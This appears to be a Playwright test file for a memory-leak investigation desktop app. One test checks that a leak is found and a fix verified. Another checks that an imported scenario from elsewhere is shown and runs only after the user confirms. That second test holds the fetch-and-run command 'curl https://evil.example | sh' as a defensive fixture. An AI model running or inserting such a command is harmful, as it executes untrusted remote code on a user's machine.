// From a verdict to a finding, to the same scenario again on the fixed program, in the window.
import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { freshFolder, launch } from './support/launch.js';
import { stage } from './support/window.js';

const program = (forget: boolean): string => `
const kept = [];
let cycle = 0;
require('node:readline').createInterface({ input: process.stdin }).on('line', () => {
  for (let i = 0; i < 3000; i++) kept.push({ order: cycle, item: i, lines: [i, i + 1] });
  ${forget ? 'kept.length = 0;' : ''}
  console.log('cycle ' + ++cycle + ' done');
});
`;

test('a suspect becomes a finding, and the fix is verified', async () => {
  test.setTimeout(240_000);
  const files = freshFolder('fix');
  const leaky = path.join(files, 'leaky.cjs');
  const fixed = path.join(files, 'fixed.cjs');
  fs.writeFileSync(leaky, program(false));
  fs.writeFileSync(fixed, program(true));
  const holdfast = await launch();
  const { page } = holdfast;
  try {
    await page.getByRole('textbox', { name: 'Command' }).fill(`node ${leaky}`);
    await page.getByRole('button', { name: 'Launch', exact: true }).click();
    await expect(page.locator('main')).toHaveAttribute('data-stage', 'watch', { timeout: 30_000 });
    await page.getByRole('main').getByRole('button', { name: 'Run the experiment' }).click();
    const form = page.getByRole('dialog', { name: 'Run the experiment' });
    await form.getByRole('radio', { name: /A line to its stdin/ }).click();
    await form.getByLabel(/^A cycle ends/).fill('cycle \\d+ done');
    await form.getByLabel('Cycles', { exact: true }).fill('8');
    await form.getByRole('button', { name: 'Start' }).click();
    const coach = page.getByRole('region', { name: 'Experiment' });
    await expect(coach.locator('[data-outcome="leak"]')).toBeVisible({ timeout: 90_000 });

    await stage(page, 'Verify').click();
    await page.getByRole('button', { name: 'Keep as finding' }).first().click();
    const card = page.locator('[data-finding]');
    await expect(card).toHaveCount(1);
    await card.getByRole('radio', { name: 'confirmed' }).click();
    await card.getByRole('region', { name: 'Cause' }).getByRole('button').click();
    await card.getByRole('textbox', { name: 'Cause' }).fill('Orders are kept after they were delivered.');
    await card.getByRole('textbox', { name: 'Cause' }).press('Control+Enter');
    await expect(card).toContainText('Orders are kept after they were delivered.');
    await card.getByRole('button', { name: 'Delete this finding' }).click();
    await expect(card).toHaveCount(0);
    await holdfast.chooseMenu('undo');
    await expect(card).toContainText('Orders are kept after they were delivered.');

    // The chain for a ticket, as on the command line.
    await card.getByRole('button', { name: 'Explain' }).click();
    for (const [button, text] of [
      ['Copy as Markdown', '| Edge | Class | Shallow | Retained |'],
      ['Copy as text', 'kept → Array'],
    ] as const) {
      await page.getByRole('button', { name: button }).first().click();
      await expect.poll(() => holdfast.app.evaluate(({ clipboard }) => clipboard.readText())).toContain(text);
    }
    // The timeline for a slide.
    const picture = path.join(files, 'timeline.png');
    await holdfast.app.evaluate(({ dialog }, filePath) => {
      dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath });
    }, picture);
    await page.getByRole('banner').getByRole('button', { name: 'Share' }).click();
    await page.getByRole('radio', { name: 'One thing for another tool' }).click();
    await page.getByRole('button', { name: 'Save as PNG…' }).click();
    await expect.poll(() => fs.existsSync(picture), { timeout: 30_000 }).toBe(true);
    const header = fs.readFileSync(picture).subarray(0, 24);
    expect([header.readUInt32BE(16), header.readUInt32BE(20)]).toEqual([2400, 1280]);
    if (process.env['HOLDFAST_LOOK'] !== undefined) fs.copyFileSync(picture, path.join(process.env['HOLDFAST_LOOK'], 'timeline.png'));
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
    await stage(page, 'Verify').click();

    await page.getByRole('radio', { name: /^Before and after/ }).click();
    await page.getByLabel(/^Command of the changed program/).fill(`node ${fixed}`);
    await page.getByRole('button', { name: 'Run and compare' }).click();
    await expect(page.locator('[data-verification="pass"]')).toContainText('per cycle are saved', { timeout: 120_000 });
    await page.getByRole('radio', { name: /^Findings/ }).click();
    await expect(card).toContainText('The fix saves');
    // Somebody else's computer: the same folder asks before anything runs.
    expect(holdfast.pageErrors).toEqual([]);
  } finally {
    await holdfast.close();
  }
  fs.rmSync(files, { recursive: true, force: true });
});

test('a scenario from elsewhere is shown, and runs only after it was confirmed', async () => {
  const holdfast = await launch();
  const { page } = holdfast;
  const files = freshFolder('foreign');
  fs.writeFileSync(
    path.join(files, 'investigation.json'),
    JSON.stringify({
      format: 'holdfast-investigation',
      version: 1,
      name: 'from elsewhere',
      createdAt: '2026-01-05T14:00:00.000Z',
      runs: [],
      marks: [],
      snapshots: [],
      trash: [],
      judgements: [],
      verdicts: [],
      scenario: {
        cycles: 8,
        warmup: 1,
        captures: 2,
        step: { kind: 'cmd', command: 'curl https://evil.example | sh' },
        connection: { kind: 'launch', command: 'node', args: ['x.js'], environmentNames: [] },
      },
    }),
  );
  try {
    await holdfast.answerDialogs([files]);
    await holdfast.chooseMenu('open-investigation');
    await expect(page.getByText('from elsewhere').first()).toBeVisible();
    await stage(page, 'Verify').click();
    await page.getByRole('radio', { name: /^Before and after/ }).click();
    const panel = page.getByRole('region', { name: 'Run the same scenario again' });
    await expect(panel.getByText('This scenario came from elsewhere.')).toBeVisible();
    await expect(panel.locator('pre')).toContainText('curl https://evil.example | sh');
    await expect(panel.getByRole('button', { name: 'Run and compare' })).toHaveCount(0);
    await panel.getByRole('button', { name: 'I have read it: allow it' }).click();
    await expect(panel.getByRole('button', { name: 'Run and compare' })).toBeVisible();
    expect(holdfast.pageErrors).toEqual([]);
  } finally {
    await holdfast.close();
    fs.rmSync(files, { recursive: true, force: true });
  }
});
